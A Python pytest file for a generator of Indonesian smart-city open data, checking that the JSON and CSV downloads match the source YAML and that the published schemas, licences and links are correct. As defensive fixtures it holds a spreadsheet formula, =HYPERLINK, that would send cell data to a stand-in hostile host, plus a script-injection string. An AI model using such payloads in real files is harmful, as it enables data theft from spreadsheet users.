"""Open data: downloads equal the source YAML and the pages, CSV for spreadsheets, schema without drift."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import json
import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner
from jsonschema import Draft202012Validator
from site_helpers import GOLDEN_REGIONS, ROOT, TODAY, load, make_project

from generator import jsonschema_export, opendata, render, templating, text, validate, vocabulary
from generator import model as m
from generator import schema as s
from generator.cli import cli
from generator.settings import Settings

DEMO = "kota-harapan-jaya"
BUNDLED = sorted([*(ROOT / "regions").iterdir(), *GOLDEN_REGIONS.iterdir(), *(ROOT / "tests/data/valid").iterdir()])
BUNDLED = [folder for folder in BUNDLED if folder.is_dir()]
SITE = Settings(site_url="https://smartcity.example.id/")
"""A build that knows its public address (MASTERPLAN_SITE_URL)."""
SCHEMA_FILES = {"masterplan.yaml": "masterplan.schema.json", "program.yaml": "program.schema.json",
                "evaluasi.yaml": "evaluasi.schema.json"}


@pytest.fixture(scope="module")
def golden() -> dict[str, str]:
    return {p.path: p.text for p in render.render_site(load(GOLDEN_REGIONS), TODAY, SITE)}


@pytest.fixture(scope="module")
def bundled() -> dict[str, str]:
    return {p.path: p.text for p in render.render_site(load(ROOT / "regions"), TODAY, SITE)}


def _iso(value: Any) -> Any:
    """YAML as safe_load reads it, with dates as the ISO text JSON has."""
    if isinstance(value, dict):
        return {k: _iso(v) for k, v in value.items()}
    if isinstance(value, list):
        return [_iso(v) for v in value]
    if isinstance(value, dt.date):
        return value.isoformat()
    return value


def _yaml(path: Path) -> Any:
    return _iso(yaml.safe_load(path.read_text(encoding="utf-8")))


def _validator(pages: dict[str, str], file_name: str) -> Draft202012Validator:
    schema = json.loads(pages[f"data/schema/{SCHEMA_FILES[file_name]}"])
    return Draft202012Validator(schema, format_checker=Draft202012Validator.FORMAT_CHECKER)


def _csv_rows(data: str, line_breaks_in_cells: int = 0) -> list[dict[str, str]]:
    raw = data.encode()
    assert raw.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM"
    assert raw.endswith(b"\r\n")
    assert raw.count(b"\n") - line_breaks_in_cells == raw.count(b"\r\n"), "records end with CRLF"
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def _dimension_table(page: str) -> dict[str, list[str]]:
    """The region page's "Program per dimensi" table: label → cells (as text)."""
    section = page.split('id="_dimensi"', 1)[1].split("<h2 ", 1)[0]
    table = section[section.index("<tbody>"):section.index("</tbody>")]
    rows = {}
    for row in re.findall(r"<tr>(.*?)</tr>", table, re.DOTALL):
        cells = [re.sub(r"<[^>]+>", "", c) for c in re.findall(r"<td[^>]*>(.*?)</td>", row)]
        rows[re.sub(r" \(.*\)$", "", cells[0])] = cells[1:]  # without the Indonesian gloss
    return rows


def _assert_holds(download: Any, source: Any, where: str) -> None:
    """Every value of the YAML is in the download, unchanged; the download may add defaults ([] or false)."""
    if isinstance(source, dict):
        assert isinstance(download, dict), where
        for key, value in source.items():
            if value is None:  # an empty key is the same as leaving it out
                assert key not in download, f"{where}.{key}"
            else:
                _assert_holds(download[key], value, f"{where}.{key}")
        for key in set(download) - set(source):
            assert download[key] in ([], {}, False) or key in opendata.COMPUTED_PROGRAM_KEYS, f"{where}.{key}"
    elif isinstance(source, list):
        assert isinstance(download, list) and len(download) == len(source), where
        for i, (mine, theirs) in enumerate(zip(download, source, strict=True)):
            _assert_holds(mine, theirs, f"{where}[{i}]")
    else:
        assert download == source and type(download) is type(source), where


def _realisation(programs: list[dict[str, Any]]) -> dict[str, Any]:
    """Planned and realised budget computed from the YAML itself, independently of the generator."""
    lines = [b for p in programs for b in p.get("anggaran") or []]
    reported = [b for b in lines if "realisasi" in b]
    spent, base = sum(b["realisasi"] for b in reported), sum(b["jumlah"] for b in reported)
    return {"anggaran": sum(b["jumlah"] for b in lines), "realisasi": spent if reported else None,
            "anggaran_tahun_dilaporkan": base if reported else None,
            "terserap_persen": round(100 * spent / base, 1) if reported and base else None,
            "tahun_dilaporkan": sorted({b["tahun"] for b in reported})}


def _late(program: dict[str, Any]) -> bool:
    return program["status"] not in ("selesai", "dibatalkan") and program["tahun_selesai"] < TODAY.year


def _rescheduled(program: dict[str, Any]) -> bool:
    return program.get("tahun_selesai_awal", program["tahun_selesai"]) != program["tahun_selesai"]


def _slipped(program: dict[str, Any]) -> bool:
    return _late(program) or (_rescheduled(program) and program["status"] != "dibatalkan")


# ------------------------------------------------------------------ numbers: YAML = downloads = pages

@pytest.mark.parametrize(("source", "slug"), [(GOLDEN_REGIONS, "kota-uji-coba"), (ROOT / "regions", DEMO)])
def test_totals_equal_yaml_and_region_page(source: Path, slug: str) -> None:
    pages = {p.path: p.text for p in render.render_site(load(source), TODAY, SITE)}
    data = json.loads(pages[f"{slug}/data/{slug}.json"])
    programs = _yaml(source / slug / "program.yaml")["program"]
    table = _dimension_table(pages[f"{slug}/index.md"])
    assert len(table) == len(m.DIMENSIONS) + 1
    columns = ("selesai", "berjalan", "rencana", "tertunda", "dibatalkan")  # the page's column order
    for d in (*m.DIMENSIONS, None):
        mine = [p for p in programs if d is None or p["dimensi"] == d]
        tally = data["ringkasan"]["jumlah"] if d is None else data["ringkasan"]["per_dimensi"][d]
        budget = sum(b["jumlah"] for p in mine for b in p.get("anggaran") or [])
        late = sum(1 for p in mine if _late(p))
        slipped = sum(1 for p in mine if _slipped(p))
        statuses = {st: sum(1 for p in mine if p["status"] == st) for st in m.STATUSES}
        assert tally == {"program": len(mine), "anggaran": budget, "status": statuses, "terlambat": late,
                         "realisasi": _realisation(mine), "dijadwalkan_ulang": sum(1 for p in mine if _rescheduled(p)),
                         "terlambat_atau_dijadwalkan_ulang": slipped}
        row = table["Jumlah" if d is None else vocabulary.DIM_LABEL[d]]
        assert row == [str(len(mine)), text.rupiah_short(budget), *(str(statuses[c]) for c in columns), str(slipped)]
    quick = [p for p in programs if p["jenis"] == "quick-win"]
    assert data["ringkasan"]["quick_win"]["program"] == len(quick) > 0
    assert data["ringkasan"]["quick_win"]["status"] == {st: sum(1 for p in quick if p["status"] == st)
                                                        for st in m.STATUSES}
    assert data["ringkasan"]["tahun_acuan"] == TODAY.year


@pytest.mark.parametrize(("source", "slug"), [(GOLDEN_REGIONS, "kota-uji-coba"), (ROOT / "regions", DEMO)])
def test_region_json_holds_the_yaml(source: Path, slug: str) -> None:
    pages = {p.path: p.text for p in render.render_site(load(source), TODAY, SITE)}
    data = json.loads(pages[f"{slug}/data/{slug}.json"])
    plan = _yaml(source / slug / "masterplan.yaml")
    programs = {p["id"]: p for p in _yaml(source / slug / "program.yaml")["program"]}
    _assert_holds(data["masterplan"], plan, "masterplan")
    assert [p["id"] for p in data["program"]] == sorted(programs)
    for p in data["program"]:
        source_program = programs[p["id"]]
        _assert_holds(p, source_program, p["id"])
        assert p["total_anggaran"] == sum(b["jumlah"] for b in source_program.get("anggaran") or [])
        assert isinstance(p["total_anggaran"], int)
        assert p["terlambat"] is _late(source_program)
    evaluation = source / slug / "evaluasi.yaml"
    if evaluation.exists():
        _assert_holds(data["evaluasi"], sorted(_yaml(evaluation)["evaluasi"], key=lambda e: e["tahun"]), "evaluasi")


def test_region_json_identity_and_licence(golden: dict[str, str]) -> None:
    data = json.loads(golden["kota-uji-coba/data/kota-uji-coba.json"])
    assert data["wilayah"] == {"slug": "kota-uji-coba", "kode_wilayah": "99.98", "nama": "Kota Uji Coba",
                               "provinsi": "Wilayah contoh", "contoh": True,
                               "url": "https://smartcity.example.id/kota-uji-coba/"}
    assert data["lisensi"] == {"nama": "CC BY 4.0", "url": "https://creativecommons.org/licenses/by/4.0/deed.id",
                               "penerbit": "Pemerintah kabupaten/kota masing-masing"}
    assert data["skema"]["program"] == "https://smartcity.example.id/data/schema/program.schema.json"


def test_dates_are_iso_text(golden: dict[str, str]) -> None:
    data = json.loads(golden["kota-uji-coba/data/kota-uji-coba.json"])
    lapor = next(p for p in data["program"] if p["id"] == "lapor-warga")
    assert [u["tanggal"] for u in lapor["pembaruan"]] == ["2021-03-01", "2022-05-15"]
    assert data["masterplan"]["sumber"][0]["tanggal"] == "2020-06-22"


def test_national_files_add_up(bundled: dict[str, str]) -> None:
    dataset = load(ROOT / "regions")
    regions = json.loads(bundled["data/wilayah.json"])
    assert [r["slug"] for r in regions["wilayah"]] == [r.slug for r in dataset.regions]
    for entry, region in zip(regions["wilayah"], dataset.regions, strict=True):
        own = json.loads(bundled[f"{region.slug}/data/{region.slug}.json"])
        assert entry["jumlah"] == own["ringkasan"]["jumlah"]
        assert entry["quick_win"] == own["ringkasan"]["quick_win"]
        assert entry["kode_wilayah"] == region.plan.kode_wilayah
        assert entry["periode"] == {"mulai": region.plan.periode.mulai, "selesai": region.plan.periode.selesai}
        assert entry["angkatan"] == region.plan.angkatan
    # National figures leave the fictional demo region out; its rows stay in the files, marked contoh.
    real = [r for r in regions["wilayah"] if not r["contoh"]]
    assert len(real) < len(regions["wilayah"]) and regions["jumlah"]["wilayah_contoh"] == 1
    assert regions["jumlah"]["wilayah"] == len(real)
    assert regions["jumlah"]["program"] == sum(r["jumlah"]["program"] for r in real)
    assert regions["jumlah"]["anggaran"] == sum(r["jumlah"]["anggaran"] for r in real)
    total = sum(r["jumlah"]["program"] for r in regions["wilayah"])
    assert total == sum(len(r.program) for r in dataset.regions) > 0
    programs = json.loads(bundled["data/program.json"])["program"]
    rows = _csv_rows(bundled["data/program.csv"])
    assert len(programs) == len(rows) == total
    assert [(r["slug_wilayah"], r["id"]) for r in rows] == [(p["slug_wilayah"], p["id"]) for p in programs]
    for region in dataset.regions:
        own = _csv_rows(bundled[f"{region.slug}/data/{region.slug}-program.csv"])
        national = [{k: v for k, v in r.items() if k not in opendata.REGION_KEYS}
                    for r in rows if r["slug_wilayah"] == region.slug]
        assert national == own


def test_home_and_national_page_agree(bundled: dict[str, str]) -> None:
    regions = json.loads(bundled["data/wilayah.json"])
    assert regions["jumlah"]["program"] == 0  # the bundled real regions have published no programme yet
    assert "<li><strong>Program:</strong> belum ada yang diterbitkan;" in bundled["index.md"]
    assert "(0 program, ditambah program wilayah data contoh)" in bundled["data/index.md"]


# ------------------------------------------------------------------ CSV

@pytest.mark.parametrize(("source", "slug"), [(GOLDEN_REGIONS, "kota-uji-coba"), (ROOT / "regions", DEMO)])
def test_csv_round_trips_to_the_yaml(source: Path, slug: str) -> None:
    pages = {p.path: p.text for p in render.render_site(load(source), TODAY, SITE)}
    rows = _csv_rows(pages[f"{slug}/data/{slug}-program.csv"])
    assert list(rows[0]) == [c.name for c in opendata.PROGRAM_COLUMNS] == [
        "id", "nama", "dimensi", "elemen", "jenis", "opd", "tahun_mulai", "tahun_selesai", "total_anggaran",
        "status", "progres", "terlambat", "url", "total_realisasi", "anggaran_tahun_dilaporkan",
        "terserap_persen", "tahun_selesai_awal", "dijadwalkan_ulang", "jumlah_bukti"]
    programs = {p["id"]: p for p in _yaml(source / slug / "program.yaml")["program"]}
    assert [r["id"] for r in rows] == sorted(programs)
    for row in rows:
        p = programs[row["id"]]
        progress = 100 if p["status"] == "selesai" else p.get("progres")
        where = f"{p['dimensi']}/#{p['id']}" if p["jenis"] != "quick-win" else f"quick-win/{p['id']}/"
        assert row == {
            "id": p["id"], "nama": p["nama"], "dimensi": p["dimensi"], "elemen": p["elemen"], "jenis": p["jenis"],
            "opd": p["opd"], "tahun_mulai": str(p["tahun_mulai"]), "tahun_selesai": str(p["tahun_selesai"]),
            "tahun_selesai_awal": str(p.get("tahun_selesai_awal", "")),
            "total_anggaran": str(sum(b["jumlah"] for b in p.get("anggaran") or [])), "status": p["status"],
            "progres": "" if progress is None else str(progress), "terlambat": "true" if _late(p) else "false",
            "dijadwalkan_ulang": "true" if _rescheduled(p) else "false",
            "jumlah_bukti": str(len({*(p.get("bukti") or []), *(u["bukti"] for u in p.get("pembaruan") or []
                                                                 if u.get("bukti"))})),
            "url": f"https://smartcity.example.id/{slug}/{where}",
            **{key: "" if value is None else str(value) for key, value in _realisation([p]).items()
               if key in ("anggaran_tahun_dilaporkan", "terserap_persen")},
            "total_realisasi": "" if _realisation([p])["realisasi"] is None else str(_realisation([p])["realisasi"]),
        }


def test_csv_quotes_and_text_survive(golden: dict[str, str]) -> None:
    raw = golden["kota-uji-coba/data/kota-uji-coba-program.csv"]
    assert ',"Lapor <script>alert(""x"")</script> Warga",' in raw  # RFC 4180: quotes doubled
    assert _csv_rows(raw)[0]["nama"] == 'Lapor <script>alert("x")</script> Warga'


@pytest.mark.parametrize(("value", "shown"), [
    ("=HYPERLINK(\"http://x\",\"klik\")", "'=HYPERLINK(\"http://x\",\"klik\")"),
    ("+62 812", "'+62 812"),
    ("-1+1", "'-1+1"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("Aplikasi = layanan", "Aplikasi = layanan"),
    ("e-KTP", "e-KTP"),
    (True, "true"),
    (False, "false"),
    (None, ""),
    (0, "0"),
    (1_250_000_000, "1250000000"),
])
def test_cell_defuses_formulas(value: object, shown: str) -> None:
    assert opendata.cell(value) == shown


def test_formula_in_data_is_defused_in_csv_only(tmp_path: Path) -> None:
    regions = tmp_path / "regions"
    shutil.copytree(GOLDEN_REGIONS, regions)
    programs = regions / "kota-uji-coba" / "program.yaml"
    source = programs.read_text(encoding="utf-8")
    evil = '=HYPERLINK("https://jahat.example/?"&A1,"Klik")'
    source = source.replace("    nama: Portal Data\n", "    nama: '" + evil.replace("'", "''") + "'\n")
    source = source.replace("    nama: Sampah Pintar\n", '    nama: "@Sampah, \\"pintar\\"\\nbaris dua"\n')
    programs.write_text(source, encoding="utf-8")
    region = load(regions).regions[0]
    files = {p.path: p.text for p in opendata.region_files(region, TODAY, Settings())}
    rows = {r["id"]: r for r in _csv_rows(files["kota-uji-coba/data/kota-uji-coba-program.csv"], 1)}
    assert rows["portal-data"]["nama"] == "'" + evil
    assert rows["sampah-pintar"]["nama"] == "'@Sampah, \"pintar\"\nbaris dua"
    data = json.loads(files["kota-uji-coba/data/kota-uji-coba.json"])
    assert {p["id"]: p["nama"] for p in data["program"]}["portal-data"] == evil


def test_spreadsheet_rules_are_documented(golden: dict[str, str]) -> None:
    for path in ("data/index.md", "kota-uji-coba/data/index.md"):
        page = golden[path]
        assert "UTF-8 dengan BOM" in page and "CRLF" in page and "RFC 4180" in page, path
        assert ("teks yang diawali <code>=</code>, <code>+</code>, <code>-</code>, <code>@</code>, tab atau "
                "carriage return diberi tanda petik tunggal") in page


# ------------------------------------------------------------------ JSON Schema: one source with the validator

def test_published_schemas_are_valid_draft_2020_12(golden: dict[str, str]) -> None:
    for file_name, schema_file in SCHEMA_FILES.items():
        schema = json.loads(golden[f"data/schema/{schema_file}"])
        Draft202012Validator.check_schema(schema)
        assert schema["$schema"] == "https://json-schema.org/draft/2020-12/schema"
        assert schema["$id"] == f"https://smartcity.example.id/data/schema/{schema_file}"
        assert schema == jsonschema_export.file_schema(file_name, schema["$id"])
    assert jsonschema_export.SCHEMA_FILES == SCHEMA_FILES
    assert set(SCHEMA_FILES) == set(s.FILES)


@pytest.mark.parametrize("folder", BUNDLED, ids=lambda f: f"{f.parent.name}/{f.name}")
def test_every_bundled_region_validates_against_the_published_schema(golden: dict[str, str], folder: Path) -> None:
    files = sorted(folder.glob("*.yaml"))
    assert {f.name for f in files} >= set(s.REQUIRED_FILES)
    for file in files:
        errors = [e.message for e in _validator(golden, file.name).iter_errors(_yaml(file))]
        assert errors == [], file


@pytest.mark.parametrize("source", [GOLDEN_REGIONS, ROOT / "regions"], ids=["golden", "regions"])
def test_downloads_validate_against_the_published_schema(source: Path) -> None:
    """The JSON downloads are the YAML normalised: strip the computed keys and the schema accepts them."""
    pages = {p.path: p.text for p in render.render_site(load(source), TODAY, SITE)}
    for region in load(source).regions:
        data = json.loads(pages[f"{region.slug}/data/{region.slug}.json"])
        assert not _validator(pages, "masterplan.yaml").is_valid(data["masterplan"] | {"x": 1})
        assert list(_validator(pages, "masterplan.yaml").iter_errors(data["masterplan"])) == []
        programs = [{k: v for k, v in p.items() if k not in opendata.COMPUTED_PROGRAM_KEYS} for p in data["program"]]
        assert list(_validator(pages, "program.yaml").iter_errors({"program": programs})) == []
        assert list(_validator(pages, "evaluasi.yaml").iter_errors({"evaluasi": data["evaluasi"]})) == []
        assert set(opendata.COMPUTED_PROGRAM_KEYS).isdisjoint(s.PROGRAM.fields)


# Each broken file is refused by both: the published schema and `masterplan check`.
BROKEN = [
    ("unknown-key", "program.yaml", "    nama: Portal Data\n", "    nama: Portal Data\n    anggaran_total: 5\n"),
    ("bad-enum", "program.yaml", "    status: rencana\n", "    status: selsai\n"),
    ("rupiah-as-text", "program.yaml", "jumlah: 250000000", 'jumlah: "Rp 250.000.000"'),
    ("negative-rupiah", "program.yaml", "jumlah: 250000000", "jumlah: -250000000"),
    ("missing-required", "program.yaml", "    jenis: jangka-menengah\n", ""),
    ("progress-over-100", "program.yaml", "    progres: 40\n", "    progres: 140\n"),
    ("bad-id", "program.yaml", "  - id: portal-data\n", "  - id: Portal_Data\n"),
    ("bad-url", "program.yaml", "[https://uji.contoh.go.id/sampah]", "[ftp://uji.contoh.go.id/sampah]"),
    ("bad-date", "program.yaml", "tanggal: 2021-03-01", "tanggal: 1-3-2021"),
    ("region-code-as-number", "masterplan.yaml", 'kode_wilayah: "99.98"', "kode_wilayah: 99.98"),
    ("unknown-dimension", "masterplan.yaml", "  smart-governance:\n    sasaran", "  smart-gov:\n    sasaran"),
    ("empty-text", "masterplan.yaml", "visi: Kota yang *terbuka* & melayani", 'visi: "  "'),
    ("list-not-text", "masterplan.yaml", "  - Melayani warga | setiap hari", "  - [a, b]"),
    ("wrong-version", "masterplan.yaml", "versi_format: 1", "versi_format: 2"),
    ("bad-score", "evaluasi.yaml", "indeks: 3.5", "indeks: 7"),
]


@pytest.mark.parametrize(("name", "file_name", "old", "new"), BROKEN, ids=[b[0] for b in BROKEN])
def test_broken_data_is_rejected_by_schema_and_checker(golden: dict[str, str], tmp_path: Path, name: str,
                                                       file_name: str, old: str, new: str) -> None:
    regions = tmp_path / "regions"
    shutil.copytree(GOLDEN_REGIONS, regions)
    target = regions / "kota-uji-coba" / file_name
    if file_name == "evaluasi.yaml":
        target.write_text("evaluasi:\n  - tahun: 2023\n    indeks: 3.5\n", encoding="utf-8")
        assert list(_validator(golden, file_name).iter_errors(_yaml(target))) == []
    source = target.read_text(encoding="utf-8")
    assert source.count(old) == 1, name
    target.write_text(source.replace(old, new), encoding="utf-8")
    assert list(_validator(golden, file_name).iter_errors(_yaml(target))) != [], name
    result = validate.load_dataset(regions, "regions", validate.Options(TODAY))
    assert result.errors == 1, name  # the mutation, and nothing else


def test_unknown_kind_has_no_schema() -> None:
    class Strange(s.Kind):
        pass

    with pytest.raises(TypeError, match="no JSON Schema for Strange"):
        jsonschema_export.kind_schema(Strange())


def test_schema_follows_the_declarations() -> None:
    """Spot checks of the mapping kind → JSON Schema, read from schema.py rather than restated."""
    program = jsonschema_export.kind_schema(s.PROGRAM)
    assert program["additionalProperties"] is False
    assert program["required"] == [k for k, f in s.PROGRAM.fields.items() if f.required]
    assert program["properties"]["status"] == {"description": s.PROGRAM.fields["status"].description,
                                               "type": "string", "enum": list(m.STATUSES)}
    assert program["properties"]["progres"]["anyOf"] == [{"type": "integer", "minimum": 0, "maximum": 100},
                                                         {"type": "null"}]
    budget = program["properties"]["anggaran"]["anyOf"][0]["items"]
    jumlah = {key: value for key, value in budget["properties"]["jumlah"].items() if key != "description"}
    assert jumlah == {"type": "integer", "minimum": 0}
    assert s.PROGRAM_ID.pattern is not None
    assert program["properties"]["id"]["pattern"] == f"^(?:{s.PROGRAM_ID.pattern.pattern})$"
    plan = jsonschema_export.kind_schema(s.MASTERPLAN)
    assert plan["properties"]["kode_wilayah"]["description"] == s.MASTERPLAN.fields["kode_wilayah"].description
    assert plan["properties"]["dimensi"]["anyOf"][0]["propertyNames"] == {"enum": list(m.DIMENSIONS)}
    date = plan["properties"]["tahapan"]["anyOf"][0]["items"]["properties"]["tanggal"]
    assert date["format"] == "date"


# ------------------------------------------------------------------ data package, licence, links

def test_datapackage_describes_files_that_exist(golden: dict[str, str]) -> None:
    package = json.loads(golden["data/datapackage.json"])
    assert package["licenses"] == [{"title": "CC BY 4.0", "path": "https://creativecommons.org/licenses/by/4.0/deed.id"}]
    assert package["contributors"] == [{"title": "Pemerintah kabupaten/kota masing-masing", "role": "publisher"}]
    names = [r["name"] for r in package["resources"]]
    assert len(names) == len(set(names))
    for resource in package["resources"]:
        body = golden[f"data/{resource['path']}"].encode()
        assert resource["bytes"] == len(body)
        assert resource["hash"] == "sha256:" + hashlib.sha256(body).hexdigest()
        assert resource["format"] == resource["path"].rsplit(".", 1)[1]
        if resource["format"] == "json":
            json.loads(body)
    table = next(r for r in package["resources"] if r["path"] == "program.csv")
    assert table["mediatype"] == "text/csv"
    assert table["dialect"]["lineTerminator"] == "\r\n"
    fields = table["schema"]["fields"]
    rows = _csv_rows(golden["data/program.csv"])
    assert [f["name"] for f in fields] == list(rows[0])
    for field in fields:
        for row in rows:
            value = row[field["name"]]
            if field["type"] == "integer" and value:
                int(value)
            if field["type"] == "boolean":
                assert value in field["trueValues"] + field["falseValues"]
            if "enum" in field["constraints"]:
                assert value in field["constraints"]["enum"]
    assert {r["path"] for r in package["resources"]} >= {"program.csv", "program.json", "wilayah.json",
                                                         *(f"schema/{f}" for f in SCHEMA_FILES.values())}


def test_licence_comes_from_settings() -> None:
    settings = Settings(site_url="https://data.contoh.go.id/", data_license="CC0 1.0",
                        data_license_url="https://creativecommons.org/publicdomain/zero/1.0/deed.id",
                        publisher="Diskominfo Kota Uji Coba")
    pages = {p.path: p.text for p in render.render_site(load(GOLDEN_REGIONS), TODAY, settings)}
    for path in ("data/index.md", "kota-uji-coba/data/index.md"):
        assert ("Data ini diterbitkan oleh Diskominfo Kota Uji Coba dengan lisensi <a href=\"https://creativecommons"
                '.org/publicdomain/zero/1.0/deed.id" rel="nofollow noopener">CC0 1.0</a>.') in pages[path]
    assert ("<blockquote>\n<p>Masterplan Smart City Kota Uji Coba, Diskominfo Kota Uji Coba, https://data.contoh.go.id/"
            "kota-uji-coba/data/, lisensi CC0 1.0</p>") in pages["kota-uji-coba/data/index.md"]
    package = json.loads(pages["data/datapackage.json"])
    assert package["licenses"][0]["title"] == "CC0 1.0"
    assert package["homepage"] == "https://data.contoh.go.id/data/"
    data = json.loads(pages["kota-uji-coba/data/kota-uji-coba.json"])
    assert data["lisensi"]["penerbit"] == "Diskominfo Kota Uji Coba"
    assert data["program"][0]["url"].startswith("https://data.contoh.go.id/kota-uji-coba/")


def test_every_region_page_links_to_its_data(golden: dict[str, str]) -> None:
    for path, body in golden.items():
        if not path.startswith("kota-uji-coba/") or not path.endswith(".md") or "template: redirect.html" in body:
            continue
        target = "kota-uji-coba/data/index.md"
        url = templating.href(path, target)
        if "quick-win/" in path and not path.endswith("quick-win/index.md"):
            assert f'<a href="{url}#_kolom">kolom</a>' in body, path
        else:
            current = ' aria-current="page"' if path == target else ""
            assert f'<a href="{url}"{current}>Data</a></p>\n</nav>' in body, path


def test_data_pages_link_every_download(golden: dict[str, str]) -> None:
    national = golden["data/index.md"]
    for name in ("program.csv", "program.json", "wilayah.json", "datapackage.json", *(
            f"schema/{f}" for f in SCHEMA_FILES.values())):
        assert f'<a href="{name}">' in national
        assert f"data/{name}" in golden
    assert '<a href="../kota-uji-coba/data/kota-uji-coba.json">JSON</a>' in national
    region = golden["kota-uji-coba/data/index.md"]
    assert '<a href="kota-uji-coba.json">kota-uji-coba.json</a>' in region
    assert '<a href="kota-uji-coba-program.csv">kota-uji-coba-program.csv</a>' in region
    assert '<a href="../../data/schema/program.schema.json">program.yaml</a>' in region


def test_downloads_are_files_and_deterministic(golden: dict[str, str]) -> None:
    pages = render.render_site(load(GOLDEN_REGIONS), TODAY, SITE)
    for page in pages:
        if page.path.endswith((".json", ".csv")):
            assert page.kind == "file", page.path
        if page.path.endswith(".json"):
            assert page.text == json.dumps(json.loads(page.text), ensure_ascii=False, separators=(",", ":"),
                                           sort_keys=True) + "\n", page.path
    assert {p.path: p.text for p in pages} == golden


def test_built_site_serves_the_downloads(tmp_path: Path) -> None:
    """A strict build (every relative link to a download checked by MkDocs) copies the files as they are."""
    project = make_project(tmp_path, ROOT / "regions")
    site_dir = tmp_path / "site"
    result = CliRunner().invoke(cli, ["build", "--strict", "--regions", str(project.regions), "--config",
                                      str(project.config), "--site-dir", str(site_dir)])
    assert result.exit_code == 0, result.output
    for path in (f"{DEMO}/data/{DEMO}-program.csv", f"{DEMO}/data/{DEMO}.json", "data/program.csv",
                 "data/program.json", "data/wilayah.json", "data/datapackage.json",
                 "data/schema/masterplan.schema.json"):
        assert (site_dir / path).read_bytes() == (project.content / path).read_bytes(), path
    assert (site_dir / "data/index.html").is_file()
    assert (site_dir / f"{DEMO}/data/index.html").is_file()
    # The reference implementation of Data Package (PyPI frictionless, pinned in the test extras) accepts the
    # package: every file, its bytes and hash, the CSV against its Table Schema, the JSON Schemas as JSON files.
    checked = subprocess.run([sys.executable, "-m", "frictionless", "validate", "--json", "datapackage.json"],
                             cwd=site_dir / "data", capture_output=True, text=True, encoding="utf-8", timeout=300,
                             check=False)
    report = json.loads(checked.stdout)
    assert report["valid"], checked.stdout
    assert checked.returncode == 0
    assert sorted(task["name"] for task in report["tasks"]) == [
        "program", "program-json", "skema-evaluasi", "skema-masterplan", "skema-program", "wilayah"]
    html = (site_dir / f"{DEMO}/index.html").read_text(encoding="utf-8")
    assert '<a href="data/">Data</a>' in html
    home = (site_dir / "index.html").read_text(encoding="utf-8")
    assert 'href="data/"' in home  # the nav entry "Data terbuka"
